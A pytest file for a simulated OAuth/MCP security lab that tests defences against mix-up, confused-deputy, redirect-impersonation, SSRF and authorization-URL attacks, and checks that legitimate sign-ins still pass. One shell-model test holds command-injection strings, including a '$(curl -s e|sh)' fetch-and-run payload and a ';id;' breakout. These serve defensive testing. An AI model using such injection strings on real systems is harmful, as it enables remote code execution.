"""Security lab, third pass (authorization half): the mix-up and confused-deputy outcomes follow from a
realistic honest server (browser sessions, consent per client, a registration policy) and from the
client's and proxy's checks, not from the story's routing; loopback redirect URIs match on any port
(RFC 8252 section 7.3); and the labs for the missing Security Best Practices sections hold against
variants a narrow fix would miss while their legitimate work still passes."""

from __future__ import annotations

import itertools
from typing import Any
from urllib.parse import urlencode, urlsplit

import pytest

from mcp_sim.scenarios.security import LABS, auth_url_lab, cimd_labs, cimd_ssrf_lab, mixup_lab, scope_lab
from mcp_sim.scenarios.security import authorization_labs as auth_labs
from mcp_sim.security.identity import User
from mcp_sim.security.oauth import (
    OAuthAuthorizationServer,
    ScriptedUser,
    exact_redirect_match,
    loopback_any_port_match,
    read_form,
    s256,
)
from mcp_sim.security.oauth_front import FrontChannel, native_only_registration
from mcp_sim.security.tokens import AuthorizationServer
from mcp_sim.security.url_safety import Resolver
from mcp_sim.transports.http import Headers, HttpRequest

SEEDS = (0, 1, 2, 3)

# Variants written for this pass (none of them shipped before it), per lab.
NEW_VARIANTS = {
    "as-mix-up": ("same-host-issuer", "registered-redirect", "own-client"),
    "confused-deputy": ("lookalike-name", "own-browser-all-the-way", "direct-to-third-party"),
    "localhost-redirect-impersonation": ("same-port", "ipv6-literal", "remembered-consent"),
    "cimd-trust-policy": ("userinfo", "lookalike-suffix", "user-pages"),
    "cimd-ssrf": ("dns-name", "encoded-address", "redirect", "attacker-dns"),
    "authorization-url-validation": ("mixed-case", "leading-whitespace", "data-url", "file-url",
                                     "shell-substitution", "quote-breakout"),
    "scope-minimization": ("after-step-up", "wildcard", "no-challenge-scope"),
}
NEW_LABS = ("localhost-redirect-impersonation", "cimd-trust-policy", "cimd-ssrf", "authorization-url-validation",
            "scope-minimization")


def _narrow(lab: str, defence: Any, variant: str = "main", seed: int = 3) -> bool:
    return LABS[lab].run_with(defence, "fixed", seed, variant).succeeded


# --- every new variant: fails against fixed, works against vulnerable, legitimate work intact -------

@pytest.mark.parametrize(("lab", "variant"), [(lab, v) for lab, vs in NEW_VARIANTS.items() for v in vs])
def test_each_new_variant_fails_against_fixed_and_works_against_vulnerable(lab: str, variant: str) -> None:
    assert len(NEW_VARIANTS[lab]) >= 3
    for seed in SEEDS:
        fixed = LABS[lab].run("fixed", seed, variant)
        assert not fixed.succeeded, fixed.explanation
        assert fixed.legitimate, fixed.evidence
        assert fixed.attack_events()
        vulnerable = LABS[lab].run("vulnerable", seed, variant)
        assert vulnerable.succeeded, vulnerable.explanation


@pytest.mark.parametrize("lab", NEW_LABS)
def test_a_new_lab_is_registered_threat_modelled_and_cites_rules(lab: str) -> None:
    from mcp_sim.protocol import rulebook
    from mcp_sim.widgets.lab_explorer import lab_menu

    facts = LABS[lab].facts
    assert facts.layer == "authorization" and len(LABS[lab].variants) >= 3
    assert facts.rules and all(rulebook.get(rule) for rule in facts.rules)
    assert lab in {value for _, value in lab_menu()}
    result = LABS[lab].run("fixed", 5)
    assert facts.not_covered in result.explanation and result.legitimate and not result.succeeded


@pytest.mark.parametrize("lab", NEW_LABS)
def test_new_labs_are_deterministic_and_seeds_vary(lab: str) -> None:
    a, b, c = LABS[lab].run("vulnerable", 4), LABS[lab].run("vulnerable", 4), LABS[lab].run("vulnerable", 9)
    assert a.evidence == b.evidence
    assert [e.to_json() for e in a.trace.events] == [e.to_json() for e in b.trace.events]
    assert [e.to_json() for e in a.trace.events] != [e.to_json() for e in c.trace.events]


# --- loopback redirect URIs: any port for an IP literal, nothing else loosened ----------------------

@pytest.mark.parametrize(("asked", "registered", "ok"), [
    ("http://127.0.0.1:51004/callback", "http://127.0.0.1/callback", True),
    ("http://127.0.0.1:51004/callback", "http://127.0.0.1:8765/callback", True),
    ("http://[::1]:40001/cb", "http://[::1]:3000/cb", True),
    ("http://127.0.0.1/callback", "http://127.0.0.1:8765/callback", True),
    ("http://localhost:51004/callback", "http://localhost:3000/callback", False),  # a name: exact (RFC 8252 8.3)
    ("http://127.0.0.1:51004/other", "http://127.0.0.1/callback", False),
    ("http://127.0.0.1:51004/callback?x=1", "http://127.0.0.1/callback", False),
    ("http://127.0.0.2:51004/callback", "http://127.0.0.1/callback", False),
    ("http://[::1]:51004/callback", "http://127.0.0.1/callback", False),
    ("http://me@127.0.0.1:51004/callback", "http://127.0.0.1/callback", False),
    ("https://127.0.0.1:51004/callback", "https://127.0.0.1/callback", False),
    ("http://127.0.0.1:99999/callback", "http://127.0.0.1/callback", False),
    ("http://127.0.0.1.evil.example:80/callback", "http://127.0.0.1/callback", False),
])
def test_loopback_literal_redirects_match_on_any_port(asked: str, registered: str, ok: bool) -> None:
    assert loopback_any_port_match(asked, [registered]) is ok
    assert exact_redirect_match(asked, [registered]) is (asked == registered)


def _bare_server(**kw: Any) -> OAuthAuthorizationServer:
    counter = itertools.count()
    table = AuthorizationServer("https://login.example", lambda: f"{next(counter):08x}" * 4, lambda: 0.0)
    return OAuthAuthorizationServer("https://login.example", table, ScriptedUser(User("ada.10", "t")),
                                    resources=("https://notes.example/mcp",), **kw)


def _authorize(server: OAuthAuthorizationServer, client_id: str, redirect: str, cookie: str = "") -> Any:
    query = urlencode({"response_type": "code", "client_id": client_id, "redirect_uri": redirect,
                       "code_challenge": s256("v" * 43), "code_challenge_method": "S256",
                       "resource": "https://notes.example/mcp", "state": "s1"})
    return server.serve(HttpRequest("GET", f"/authorize?{query}", Headers({"Cookie": cookie} if cookie else {})))


@pytest.mark.parametrize("port", [1024, 8765, 51004, 65535])
def test_the_authorization_server_sends_a_native_apps_code_to_the_port_it_listens_on(port: int) -> None:
    server = _bare_server()
    client = server.preregister("desktop", ["http://127.0.0.1/callback"])
    response = _authorize(server, client.client_id, f"http://127.0.0.1:{port}/callback")
    location = urlsplit(response.headers["Location"])
    assert response.status == 302 and location.port == port and "code" in read_form(location.query)


@pytest.mark.parametrize("seed", SEEDS)
def test_the_redirect_labs_native_app_signs_in_on_a_new_port_under_fixed(seed: int) -> None:
    fixed = LABS["redirect-uri-manipulation"].run("fixed", seed)
    assert fixed.legitimate and not fixed.succeeded
    # a fix that compared the loopback port exactly would have broken the native app
    assert not LABS["redirect-uri-manipulation"].run_with(auth_labs.RedirectMatching(exact_redirect_match),
                                                          "fixed", seed).legitimate
    assert LABS["confused-deputy"].run("fixed", seed).legitimate


# --- the honest server's front channel --------------------------------------------------------------

def test_a_browser_without_a_session_signs_in_as_itself_and_sees_the_client_and_its_host() -> None:
    counter = itertools.count()
    ada, eve = User("ada.10", "t"), User("eve.66", "t")
    front = FrontChannel({"ada.10": ("pw-a", ada), "eve.66": ("pw-e", eve)}, lambda: f"{next(counter):08x}" * 4)
    server = _bare_server(front=front)
    client = server.preregister("Desk", ["http://127.0.0.1/callback"])
    first = _authorize(server, client.client_id, "http://127.0.0.1:5000/callback")
    cookie = first.headers["Set-Cookie"].split(";")[0]
    login = first.json()["login"]
    # a ticket shown to this browser is refused in another one
    stranger = server.serve(HttpRequest("POST", "/login", Headers({"Cookie": "__Host-as=nope"}),
                                        urlencode({"ticket": login["ticket"], "username": "eve.66", "password": "pw-e"})))
    assert stranger.status == 400
    spent = server.serve(HttpRequest("POST", "/login", Headers({"Cookie": cookie}),
                                     urlencode({"ticket": login["ticket"], "username": "eve.66", "password": "pw-e"})))
    assert spent.status == 400  # a ticket is used once, even by the wrong browser
    login = _authorize(server, client.client_id, "http://127.0.0.1:5000/callback", cookie).json()["login"]
    page = server.serve(HttpRequest("POST", "/login", Headers({"Cookie": cookie}),
                                    urlencode({"ticket": login["ticket"], "username": "eve.66", "password": "pw-e"})))
    consent = page.json()["consent"]
    assert consent["client_name"] == "Desk" and consent["redirect_host"] == "127.0.0.1" and "warning" in consent
    done = server.serve(HttpRequest("POST", "/consent", Headers({"Cookie": cookie}),
                                    urlencode({"ticket": consent["ticket"], "approve": "yes"})))
    code = read_form(urlsplit(done.headers["Location"]).query)["code"]
    assert server._codes[code].subject == eve  # the code is for whoever signed in in this browser
    assert native_only_registration(["https://desk.example/cb"]) and not native_only_registration(
        ["http://127.0.0.1/cb"])


# --- mix-up: the world decides, and a narrower fix loses ------------------------------------------

def test_a_redirect_uri_per_host_is_shared_by_two_issuers_on_one_host() -> None:
    per_host = mixup_lab.IssuerCheck(mixup_lab.redirect_per_server, mixup_lab.check_issuer)
    assert _narrow("as-mix-up", per_host, "same-host-issuer")
    assert not _narrow("as-mix-up", per_host, "missing-iss")
    honest, tenant = "https://login.example", "https://login.example/tenants/x"
    assert mixup_lab.redirect_per_server(honest) == mixup_lab.redirect_per_server(tenant)
    assert mixup_lab.redirect_per_issuer(honest) != mixup_lab.redirect_per_issuer(tenant)


def test_without_iss_the_fix_depends_on_the_honest_servers_registration_policy(monkeypatch: Any) -> None:
    """What not_covered says: an honest server that omits iss and lets anyone register any https
    redirect URI lets the attacker register the client's redirect URI for the attacker's issuer."""
    assert not LABS["as-mix-up"].run("fixed", 3, "registered-redirect").evidence["planted_client"]
    monkeypatch.setattr(mixup_lab, "native_only_registration", auth_labs_open_registration())
    result = LABS["as-mix-up"].run("fixed", 3, "registered-redirect")
    assert result.evidence["planted_client"] and result.succeeded
    assert "registration" in LABS["as-mix-up"].facts.not_covered


def auth_labs_open_registration() -> Any:
    from mcp_sim.security.oauth_front import open_registration

    return open_registration


def test_the_attackers_own_client_needs_the_users_consent_at_the_honest_server() -> None:
    result = LABS["as-mix-up"].run("vulnerable", 2, "own-client")
    assert result.evidence["consent_pages"] == 2  # Desk (approved once) and the attacker's 'Desk' (declined)
    assert "declined 'Desk'" in LABS["as-mix-up"].run("fixed", 2, "own-client").stopped_by


# --- confused deputy: whose code the third party issues follows from the browser ---------------------

@pytest.mark.parametrize("config", ["vulnerable", "fixed"])
def test_the_attackers_own_browser_gets_a_code_for_the_attacker_only(config: str) -> None:
    result = LABS["confused-deputy"].run(config, 1, "own-browser-all-the-way")  # type: ignore[arg-type]
    victim = result.evidence["victim"]
    others = [s for s in result.evidence["proxy_tokens_for"] if s != victim]
    assert others, result.evidence  # the attacker's own run bought a token — for its own account
    assert result.succeeded is (config == "vulnerable")  # only the user's browser could give the victim's


def test_proxy_consent_by_name_alone_misses_a_lookalike_client() -> None:
    def by_name(client: Any, redirect_uri: str) -> tuple[str, ...]:
        return (client.client_name,)

    narrow = auth_labs.ProxyRules(by_name, loopback_any_port_match, bind_state=True)
    assert not _narrow("confused-deputy", narrow)
    assert _narrow("confused-deputy", narrow, "lookalike-name")


# --- the new labs: narrower fixes lose to a variant -------------------------------------------------

def test_a_blocklist_of_javascript_misses_other_spellings_schemes_and_the_shell() -> None:
    def blocklist(url: str) -> str | None:
        return "javascript" if url.startswith("javascript:") else None

    narrow = auth_url_lab.UrlOpening(blocklist, "shell")
    assert not _narrow("authorization-url-validation", narrow)
    for variant in ("mixed-case", "leading-whitespace", "data-url", "file-url", "shell-substitution"):
        assert _narrow("authorization-url-validation", narrow, variant), variant
    no_shell_only = auth_url_lab.UrlOpening(auth_url_lab.no_check, "argv")
    assert _narrow("authorization-url-validation", no_shell_only, "data-url")
    assert not _narrow("authorization-url-validation", no_shell_only, "quote-breakout")

    def scheme_only(url: str) -> str | None:
        return None if auth_url_lab.browser_parse(url)[0] == "https" else "scheme"

    assert _narrow("authorization-url-validation", auth_url_lab.UrlOpening(scheme_only, "shell"), "shell-substitution")


def test_the_shell_model_finds_every_command_a_line_runs() -> None:
    assert auth_url_lab.shell_commands('xdg-open "https://a.example/?x=1&y=2"') == ["xdg-open https://a.example/?x=1&y=2"]
    assert auth_url_lab.shell_commands('xdg-open "https://a/$(curl -s e|sh)"') == ["curl -s e", "sh", "xdg-open https://a/"]
    assert auth_url_lab.shell_commands('xdg-open "https://a/";id;""') == ["xdg-open https://a/", "id"]
    assert auth_url_lab.shell_commands("echo '$(id)'") == ["echo $(id)"]


def test_pinning_the_loopback_port_misses_a_program_on_the_apps_own_port() -> None:
    narrow = cimd_labs.LoopbackTrust(exact_redirect_match, cimd_labs.no_attestation)
    assert not _narrow("localhost-redirect-impersonation", narrow)
    assert _narrow("localhost-redirect-impersonation", narrow, "same-port")
    result = LABS["localhost-redirect-impersonation"].run("vulnerable", 3, "remembered-consent")
    assert result.evidence["consent_pages_during_attack"] == 0  # no page, so no warning, ever


def test_textual_trust_policies_miss_userinfo_lookalikes_and_user_folders() -> None:
    def text_prefix(client_id: str) -> str | None:
        return None if client_id.startswith("https://files.example") else "untrusted"

    def host_suffix(client_id: str) -> str | None:
        return None if (urlsplit(client_id).hostname or "").endswith("files.example") else "untrusted"

    def host_only(client_id: str) -> str | None:
        return None if urlsplit(client_id).hostname == "files.example" else "untrusted"

    for policy, variant in ((text_prefix, "userinfo"), (host_suffix, "lookalike-suffix"), (host_only, "user-pages")):
        narrow = cimd_labs.TrustPolicy(policy)
        assert not _narrow("cimd-trust-policy", narrow) and _narrow("cimd-trust-policy", narrow, variant), variant


def test_a_blocklist_of_private_literals_misses_names_and_spellings() -> None:
    def literals(url: str, resolve: Resolver) -> None:
        from mcp_sim.security.oauth_client import OAuthFailed

        if (urlsplit(url).hostname or "").startswith(("10.", "127.", "169.254.", "192.168.")):
            raise OAuthFailed("private", "blocklist")

    narrow = cimd_ssrf_lab.DocumentGuard(literals)
    assert not _narrow("cimd-ssrf", narrow) and not _narrow("cimd-ssrf", narrow, "redirect")
    for variant in ("dns-name", "encoded-address", "attacker-dns"):
        assert _narrow("cimd-ssrf", narrow, variant), variant


def test_half_a_scope_design_is_not_least_privilege() -> None:
    client_only = scope_lab.ScopeDesign(scope_lab.publish_catalog, scope_lab.challenge_needed,
                                        scope_lab.ask_what_is_named)
    assert not _narrow("scope-minimization", client_only) and _narrow("scope-minimization", client_only,
                                                                      "no-challenge-scope")
    server_catalog = scope_lab.ScopeDesign(scope_lab.publish_baseline, scope_lab.challenge_catalog,
                                           scope_lab.ask_what_is_named)
    assert _narrow("scope-minimization", server_catalog)  # the whole catalog in the challenge: a careful client too

    def no_admin_by_name(challenged: Any, published: Any, held: frozenset[str]) -> frozenset[str]:
        return frozenset(s for s in scope_lab.ask_everything(challenged, published, held) if s != "files:admin")

    by_name = scope_lab.ScopeDesign(scope_lab.publish_catalog, scope_lab.challenge_catalog, no_admin_by_name)
    assert not _narrow("scope-minimization", by_name) and _narrow("scope-minimization", by_name, "wildcard")
